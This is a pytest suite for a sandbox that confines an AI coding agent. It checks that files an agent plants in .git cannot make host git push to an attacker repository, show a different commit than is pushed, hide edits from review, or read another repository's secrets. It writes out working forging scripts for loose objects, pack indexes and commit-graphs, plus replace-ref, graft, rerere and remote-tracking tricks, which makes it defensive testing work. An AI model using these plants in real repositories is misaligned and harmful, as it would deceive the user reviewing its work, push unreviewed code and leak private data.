"""What in ``.git`` sends host git elsewhere, planted from agent mode.

Each test plants, from a real ``corral agent`` run, a file host git 2.39 obeys outside
the config: a legacy remote (``remotes/origin``, ``branches/origin``), a replace ref
(loose or packed), grafts, alternates; then runs, as the identity under test (root and
the plain user), the command a user would: ``git push`` with no remote configured, ``git
show`` of what is about to be pushed, ``git cat-file``.  A local bare repository stands
for the attacker's server.  Each has its negative control: the same plant under the
seed's naive sandbox, after which host git pushes there, shows the other commit, or
reads the other store.  The agent's own work (its commits, branches, packed refs) stays.
"""

from __future__ import annotations

import shutil
import subprocess
import uuid
from pathlib import Path

import pytest

from agent_lab import Lab, agent, git, naive
from conftest import Identity
from test_agent_gitstate import ID, _fresh, _host_git

pytestmark = pytest.mark.sandbox


SAFE = "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'; "


def _project(lab: Lab) -> Path:
    """The lab's project with one commit (f=ok) on main and no remote."""
    project = _fresh(lab)
    (project / "f").write_text("ok\n")
    git(project, "add", "f")
    git(project, "-c", "user.name=u", "-c", "user.email=u@example.invalid", "commit", "-qm",
        "base")
    lab.own(project)
    return project


def _plant(who: Identity, lab: Lab, sandbox: str, script: str) -> str:
    """Run the agent's ``script`` in ``sandbox`` (corral or the naive one): its stderr."""
    run = agent if sandbox == "corral" else naive
    r = run(who, lab, f"{SAFE}{script} && echo PLANTED")
    assert "PLANTED" in r.stdout, (sandbox, r)
    return r.stderr


@pytest.mark.parametrize("legacy", ["remotes", "branches"])
def test_a_legacy_remote_does_not_take_over_git_push(who: Identity, lab: Lab, legacy: str
                                                      ) -> None:
    """No remote in the config: a plain ``git push`` goes to ``origin``, which git then
    takes from ``.git/remotes/origin`` or ``.git/branches/origin``."""
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        attacker = lab.home / "dev" / f"attacker-{uuid.uuid4().hex[:8]}.git"
        who.run(["git", "init", "-q", "--bare", str(attacker)])  # the identity's own
        stderr = _plant(who, lab, sandbox, (
            f"mkdir -p .git/remotes && printf 'URL: {attacker}\\nPush: refs/heads/*:"
            "refs/heads/*\\n' > .git/remotes/origin" if legacy == "remotes" else
            f"mkdir -p .git/branches && echo {attacker} > .git/branches/origin"))
        pushed = _host_git(who, project, "push")
        sent = _host_git(who, attacker, "for-each-ref")
        # Control: after the naive sandbox, the user's code lands in the agent's repository.
        assert bool(sent.stdout.strip()) == (sandbox == "naive"), (sandbox, pushed, stderr)
        if sandbox == "corral":
            assert "quarantined" in stderr and "legacy remote" in stderr, stderr


# The agent commits EVIL, then makes a replacement (GOOD) that host git shows instead.
REPLACE = (f"echo EVIL > f && git {ID} commit -qam change && bad=$(git rev-parse HEAD) && "
           f"echo GOOD > f && git add f && good=$(git {ID} commit-tree $(git write-tree) "
           "-p HEAD~1 -m change) && git replace $bad $good && git reset -q --hard")


@pytest.mark.parametrize("where", ["loose", "packed"])
def test_a_replace_ref_does_not_hide_what_git_push_sends(who: Identity, lab: Lab, where: str
                                                         ) -> None:
    script = REPLACE + (" && git pack-refs --all" if where == "packed" else "")
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        stderr = _plant(who, lab, sandbox, script)
        shown = _host_git(who, project, "show", "HEAD:f").stdout
        # Control: after the naive sandbox the user reviews GOOD; EVIL is what is pushed.
        assert shown == ("GOOD\n" if sandbox == "naive" else "EVIL\n"), (sandbox, stderr)
        if sandbox == "corral":
            assert "quarantined" in stderr and "replace ref" in stderr, stderr
            # The agent's own commit and branch stay, packed or not.
            log = _host_git(who, project, "log", "--format=%s", "main")
            assert log.stdout.split() == ["change", "base"], log


def test_grafts_do_not_rewrite_the_history_the_user_reviews(who: Identity, lab: Lab) -> None:
    """``info/grafts`` (read-only when ``info/`` exists at launch; made here where it did
    not) gives a commit other parents: ``git log`` shows another history than is pushed."""
    script = (f"mkdir -p .git/info && git {ID} commit -q --allow-empty -m two && "
              "git rev-parse HEAD > .git/info/grafts")
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        shutil.rmtree(project / ".git" / "info")
        stderr = _plant(who, lab, sandbox, script)
        count = _host_git(who, project, "rev-list", "--count", "HEAD").stdout.strip()
        # Control: after the naive sandbox, the grafted commit has no parent.
        assert count == ("1" if sandbox == "naive" else "2"), (sandbox, stderr)
        if sandbox == "corral":
            assert "quarantined" in stderr and "grafts" in stderr, stderr


def test_alternates_do_not_bring_in_another_store(who: Identity, lab: Lab) -> None:
    """The agent names another repository's objects (a path the sandbox never showed) and
    a ref to its commit: host git would read, show and push that commit from the project."""
    other = lab.home / "dev" / f"other-{uuid.uuid4().hex[:8]}"
    other.mkdir()
    git(other, "init", "-q")
    (other / "secret").write_text("private\n")
    git(other, "add", "secret")
    git(other, "-c", "user.name=u", "-c", "user.email=u@example.invalid", "commit", "-qm", "s")
    sha = subprocess.run(["git", "-C", str(other), "rev-parse", "HEAD"], check=True,
                         capture_output=True, text=True).stdout.strip()
    lab.own(other)
    script = (f"echo {other}/.git/objects > .git/objects/info/alternates && "
              f"echo {sha} > .git/refs/heads/theirs")
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        stderr = _plant(who, lab, sandbox, script)
        seen = _host_git(who, project, "cat-file", "-e", f"{sha}:secret")
        # Control: after the naive sandbox, host git reads the other repository's commit.
        assert (seen.returncode == 0) == (sandbox == "naive"), (sandbox, seen, stderr)
        if sandbox == "corral":
            assert "quarantined" in stderr and "store it names" in stderr, stderr


# The parent of HEAD's entry in a commit-graph (CDAT: tree, parent 1, parent 2, dates per
# commit, in OIDL's order) set to "none": git trusts the file, whose checksum it never reads.
CUT_PARENT = """
import struct, subprocess
path = ".git/objects/info/commit-graph"
head = bytes.fromhex(subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip())
d = bytearray(open(path, "rb").read())
at = {bytes(d[8 + 12 * i:12 + 12 * i]): struct.unpack(">Q", d[12 + 12 * i:20 + 12 * i])[0]
      for i in range(d[6])}
oids = [bytes(d[at[b"OIDL"] + 20 * i:at[b"OIDL"] + 20 * i + 20])
        for i in range((at[b"CDAT"] - at[b"OIDL"]) // 20)]
struct.pack_into(">I", d, at[b"CDAT"] + 36 * oids.index(head) + 20, 0x70000000)
open(path, "wb").write(d)
"""


@pytest.mark.parametrize("how", ["shallow", "commit-graph"])
def test_shallow_and_commit_graph_do_not_rewrite_the_history(who: Identity, lab: Lab, how: str
                                                             ) -> None:
    """Grafts by other names: ``shallow`` cuts a commit's parents, and a ``commit-graph``
    (git reads parents and trees from it before the objects) says what the agent wrote in
    it.  Host ``git log`` then shows another history than the objects hold."""
    plant = ("git rev-parse HEAD > .git/shallow" if how == "shallow" else
             "git commit-graph write --reachable && chmod u+w .git/objects/info/commit-graph"
             f" && /usr/bin/python3 -c '{CUT_PARENT}'")
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        stderr = _plant(who, lab, sandbox, f"git {ID} commit -q --allow-empty -m two && {plant}")
        count = _host_git(who, project, "rev-list", "--count", "HEAD").stdout.strip()
        # Control: after the naive sandbox, the agent's commit has no parent.
        assert count == ("1" if sandbox == "naive" else "2"), (sandbox, stderr)
        if sandbox == "corral":
            assert "quarantined" in stderr and how in stderr, stderr


@pytest.mark.parametrize("where", ["loose", "packed"])
def test_a_moved_remote_tracking_ref_does_not_hide_what_git_push_sends(
        who: Identity, lab: Lab, where: str) -> None:
    """The agent commits, then moves ``origin/main`` onto its commit: host ``git log
    origin/main..`` (and ``git status``: "up to date") shows nothing to push, and the
    user's next push sends the commit unreviewed.  The user's remote-tracking refs are
    packed at launch (as ``git clone`` leaves them): the moved one goes, the packed one
    is what host git sees again; moved inside ``packed-refs``, it goes too (git fetch
    brings it back)."""
    move = f"echo EVIL > f && git {ID} commit -qam change && " \
           "git update-ref refs/remotes/origin/main HEAD" + \
           (" && git pack-refs --all" if where == "packed" else "")
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        origin = lab.home / "dev" / f"origin-{uuid.uuid4().hex[:8]}.git"
        git(origin.parent, "init", "-q", "--bare", str(origin))
        git(project, "remote", "add", "origin", str(origin))
        git(project, "push", "-q", "origin", "main")
        git(project, "pack-refs", "--all")
        lab.own(project, origin)
        stderr = _plant(who, lab, sandbox, move)
        log = _host_git(who, project, "log", "--format=%s", "origin/main..main")
        if sandbox == "naive":  # control: nothing to push, says host git
            assert log.returncode == 0 and log.stdout == "", (log, stderr)
            continue
        assert "quarantined" in stderr and "remote-tracking" in stderr, stderr
        if where == "loose":  # the launch's packed value is back
            assert log.stdout.split() == ["change"], (log, stderr)
        else:  # gone: host git says so, and a fetch brings it back
            assert log.returncode != 0, (log, stderr)
        assert _host_git(who, project, "rev-parse", "main").returncode == 0


@pytest.mark.parametrize("mark", ["skip-worktree", "assume-unchanged"])
def test_an_index_mark_does_not_hide_a_change_from_review(who: Identity, lab: Lab, mark: str
                                                         ) -> None:
    """The agent edits a tracked file, then marks it in the index: host ``git status``
    and ``git diff`` skip the file, and the change goes unreviewed (then runs, if it is
    a script).  The index is put back without the mark, its other entries kept."""
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        stderr = _plant(who, lab, sandbox, f"echo EVIL > f && git update-index --{mark} f")
        status = _host_git(who, project, "status", "--porcelain").stdout
        # Control: after the naive sandbox, host git sees nothing changed.
        assert status == ("" if sandbox == "naive" else " M f\n"), (sandbox, status, stderr)
        assert (project / "f").read_text() == "EVIL\n"
        if sandbox == "corral":
            assert "quarantined" in stderr and "git status" in stderr, stderr
            listed = _host_git(who, project, "ls-files", "-v").stdout
            assert listed == "H f\n", listed  # no mark left, the entry kept


# The agent meets the conflict the user's next merge will meet, and records its own answer.
RERERE = (f"git -c rerere.enabled=true {ID} merge feature >/dev/null; echo EVIL > f && "
          "git -c rerere.enabled=true rerere && git merge --abort")


def test_a_recorded_resolution_does_not_answer_the_users_next_merge(who: Identity, lab: Lab
                                                                    ) -> None:
    """rerere is on wherever ``.git/rr-cache`` exists: a resolution the agent records
    there is written into the file by the user's next ``git merge`` on the host, which
    reports the conflict "Resolved using previous resolution" (redteam)."""
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        git(project, "checkout", "-qb", "feature")
        (project / "f").write_text("FEATURE\n")
        git(project, "-c", "user.name=u", "-c", "user.email=u@example.invalid", "commit",
            "-qam", "feature")
        git(project, "checkout", "-q", "-")
        (project / "f").write_text("MAIN\n")
        git(project, "-c", "user.name=u", "-c", "user.email=u@example.invalid", "commit",
            "-qam", "main")
        lab.own(project)
        stderr = _plant(who, lab, sandbox, RERERE)
        merged = _host_git(who, project, "merge", "feature")
        text = (project / "f").read_text()
        # Control: after the naive sandbox, the user's merge takes the agent's answer.
        assert (text == "EVIL\n") == (sandbox == "naive"), (sandbox, text, merged, stderr)
        if sandbox == "corral":
            assert "<<<<<<<" in text and "MAIN" in text and "FEATURE" in text, text
            assert "quarantined" in stderr and "conflict resolution" in stderr, stderr


def _edit_hidden(who: Identity, project: Path, sandbox: str, stderr: str
                 ) -> subprocess.CompletedProcess[str]:
    """Host git after a forged object: after the naive sandbox (the control) the commit
    "holds" EVIL and ``git diff`` is silent; after corral neither.  ``git show HEAD:f``."""
    shown = _host_git(who, project, "show", "HEAD:f")
    diff = _host_git(who, project, "diff")
    assert (shown.stdout == "EVIL\n") == (sandbox == "naive"), (sandbox, shown, stderr)
    silent = diff.returncode == 0 and diff.stdout == ""
    assert silent == (sandbox == "naive"), (sandbox, diff, stderr)
    return shown


# The agent edits f, then rewrites the blob HEAD:f names with its edit (a loose object is
# read unchecked: only git fsck compares a loose object's content with its name).
FORGE = ("echo EVIL > f && oid=$(git rev-parse HEAD:f) && "
         "obj=.git/objects/$(echo $oid | cut -c1-2)/$(echo $oid | cut -c3-) && "
         "python3 -c 'import sys, zlib; d = open(\"f\", \"rb\").read(); "
         "open(sys.argv[1] + \".new\", \"wb\").write(zlib.compress(b\"blob %d\\0\" % len(d) + d))'"
         " $obj && mv -f $obj.new $obj")


def test_a_forged_loose_object_does_not_hide_an_edit(who: Identity, lab: Lab) -> None:
    """After the forgery host ``git diff`` shows nothing, ``git show HEAD:f`` shows the
    edit as the commit's, and ``git restore f`` writes it back (redteam)."""
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        stderr = _plant(who, lab, sandbox, FORGE)
        shown = _edit_hidden(who, project, sandbox, stderr)
        if sandbox == "corral":
            assert "quarantined" in stderr and "hash-path" in stderr, stderr
            assert shown.returncode != 0, shown  # gone: git says so, never shows EVIL


# The agent packs its EVIL blob and writes the pack's index as if it held the blob HEAD:f
# names: git finds objects in packs first, through the index, unchecked.
FORGE_PACK = r'''
import hashlib, os, struct, subprocess, sys, zlib
def run(*a, **k):
    return subprocess.run(["git", *a], check=True, capture_output=True, **k).stdout
target = bytes.fromhex(run("rev-parse", "HEAD:f").decode().strip())
evil = run("hash-object", "-w", "--stdin", input=b"EVIL\n").decode().strip()
name = run("pack-objects", ".git/objects/pack/pack", input=(evil + "\n").encode()).decode()
base = ".git/objects/pack/pack-" + name.strip()
pack = open(base + ".pack", "rb").read()
fan = b"".join(struct.pack(">I", int(i >= target[0])) for i in range(256))
body = (b"\377tOc" + struct.pack(">I", 2) + fan + target
        + struct.pack(">II", zlib.crc32(pack[12:-20]), 12) + pack[-20:])
os.chmod(base + ".idx", 0o644)
open(base + ".idx", "wb").write(body + hashlib.sha1(body).digest())
os.unlink(".git/objects/" + evil[:2] + "/" + evil[2:])
if sys.argv[1:]:  # git reads any NAME.idx with its NAME.pack, not only pack-HASH.idx
    for ext in (".idx", ".pack"):
        os.rename(base + ext, ".git/objects/pack/" + sys.argv[1] + ext)
'''


@pytest.mark.parametrize("name", ["", "evil"])
def test_a_lying_pack_index_does_not_hide_an_edit(who: Identity, lab: Lab, name: str) -> None:
    """The pack form of the forged object: after it, host ``git diff`` shows nothing and
    ``git show HEAD:f`` shows the edit as the commit's (redteam); under git's own name for
    it (``pack-HASH``) or any other (``evil.idx``, ``evil.pack``: git reads it too)."""
    for sandbox in ("corral", "naive"):
        project = _project(lab)
        (project / "forge.py").write_text(FORGE_PACK)
        lab.own(project)
        stderr = _plant(who, lab, sandbox,
                        f"python3 forge.py {name} && rm forge.py && echo EVIL > f")
        shown = _edit_hidden(who, project, sandbox, stderr)
        if sandbox == "corral":
            assert "quarantined" in stderr and "git index-pack" in stderr, stderr
            assert shown.stdout == "ok\n", shown  # the user's own blob, read loose again


def test_the_agents_own_repack_stays(who: Identity, lab: Lab) -> None:
    """The pack the agent's ``git repack`` writes is re-indexed on the host
    within the bounds given to ``git index-pack`` (one thread, its address space and time
    capped, as the tree's owner) and agrees with it: nothing of it is quarantined (``git
    gc`` also writes a commit-graph, which goes: see the shallow and graph test)."""
    project = _project(lab)
    stderr = _plant(who, lab, "corral", (
        "echo more > g && git add g && git -c user.name=a -c user.email=a@example.invalid "
        "commit -qm more && git repack -adq"))
    assert "git index-pack" not in stderr and "quarantined" not in stderr, stderr
    assert list((project / ".git" / "objects" / "pack").glob("pack-*.idx")), "no pack made"
    assert _host_git(who, project, "show", "HEAD:g").stdout == "more\n"
    fsck = _host_git(who, project, "fsck", "--strict")
    assert fsck.returncode == 0, fsck
